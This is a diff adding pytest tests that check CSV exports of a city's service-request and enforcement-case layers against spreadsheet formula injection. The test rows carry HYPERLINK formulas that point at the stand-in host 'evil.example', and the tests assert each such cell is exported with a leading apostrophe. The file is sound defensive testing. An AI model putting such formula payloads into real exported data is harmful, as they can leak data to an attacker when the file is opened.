@@ -176,6 +176,104 @@ def test_csv_opens_in_excel_with_chinese(
     assert labelled.splitlines()[0].startswith("编号,数据来源,来源编号,来源渠道,受理时间")
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_rows(conn: sa.Connection) -> dict[str, dict[str, str]]:
+    """Per layer, the text of the rows written: one row per character of FORMULA_STARTS
+    whose every free-text field starts with it; negative numbers beside them."""
+    written: dict[str, dict[str, str]] = {"service_requests": {}, "enforcement_cases": {}}
+    for i, start in enumerate(FORMULA_STARTS):
+        text = {
+            name: f'{start}HYPERLINK("http://evil.example/?{name}","{i}")'
+            for name in (
+                "source",
+                "source_id",
+                "channel",
+                "category",
+                "department",
+                "description",
+                "address",
+                "coord_system",
+                "status",
+                "satisfaction",
+                "geocode_quality",
+            )
+        }
+        conn.execute(
+            sa.text(
+                f"insert into service_requests ({', '.join(text)}, received_at, street_code, geom) "
+                f"values ({', '.join(':' + n for n in text)}, now(), :street, "
+                "ST_SetSRID(ST_MakePoint(-0.5, -1.25), 4326))"
+            ),
+            {**text, "street": A},
+        )
+        written["service_requests"][text["source_id"]] = text["description"]
+        case = {n: text[n] for n in ("source", "source_id", "description", "address", "status")}
+        conn.execute(
+            sa.text(
+                "insert into enforcement_cases (source, source_id, case_no, case_type, agencies, "
+                "description, address, status, opened_at, street_code, geom) values (:source, "
+                ":source_id, :source_id, :status, array[:status, '城管'], :description, :address, "
+                ":status, now(), :street, ST_SetSRID(ST_MakePoint(-0.5, -1.25), 4326))"
+            ),
+            {**case, "street": A},
+        )
+        written["enforcement_cases"][case["source_id"]] = case["description"]
+    return written
+
+
+def _numeric(column: Any) -> bool:
+    return isinstance(column.type, sa.Integer | sa.Float | sa.Numeric)
+
+
+def _assert_no_formula(rows: list[dict[str, str]], layer: str) -> None:
+    """No cell starts like a formula, except numbers, which stay numbers."""
+    published = get_layer(layer).published
+    fields = {f.name: f.column for f in published} | {f.label: f.column for f in published}
+    for row in rows:
+        for name, cell in row.items():
+            if name in ("lon", "lat") or (name in fields and _numeric(fields[name])):
+                if cell:
+                    float(cell)  # a number, not a text with a quote in front
+                continue
+            assert not cell.startswith(FORMULA_STARTS), (layer, name, cell)
+
+
+@pytest.mark.parametrize("layer", ["service_requests", "enforcement_cases"])
+def test_csv_cells_are_never_formulas(
+    client: FlaskClient,
+    connection: sa.Connection,
+    district: Any,  # noqa: F811
+    tmp_path: Path,
+    layer: str,
+) -> None:
+    """Every text field of these rows starts with = + - @ tab or CR: over HTTP (both
+    headings) and from `blockdata export`'s writer, each such cell gets a ' in front and
+    keeps its text, while the negative coordinates stay numbers."""
+    written = _formula_rows(connection)[layer]
+    bodies = [
+        _get(client, layer, f="csv").get_data().decode("utf-8-sig"),
+        _get(client, layer, f="csv", header="label").get_data().decode("utf-8-sig"),
+    ]
+    export.export_file(connection, _slice(layer), "csv", tmp_path / "out.csv", "tester")
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
+        bodies.append(fh.read())
+    labels = get_layer(layer).labels
+    for body, heading in zip(bodies, ("name", "label", "name"), strict=True):
+        rows = list(csv.DictReader(io.StringIO(body, newline="")))
+        assert len(rows) == len(FORMULA_STARTS)
+        _assert_no_formula(rows, layer)
+        key, text = (
+            ("source_id", "description")
+            if heading == "name"
+            else (labels["source_id"], labels["description"])
+        )
+        assert all(r[key].startswith("'") and r[text].startswith("'") for r in rows)
+        assert {r[key][1:]: r[text][1:] for r in rows} == written
+        assert {float(r["lon"]) for r in rows} == {-0.5}
+
+
 def test_polygon_layer_csv_carries_wkt(client: FlaskClient, district: Any) -> None:  # noqa: F811
     rows = list(
         csv.DictReader(io.StringIO(_get(client, "grids", f="csv").get_data().decode("utf-8-sig")))
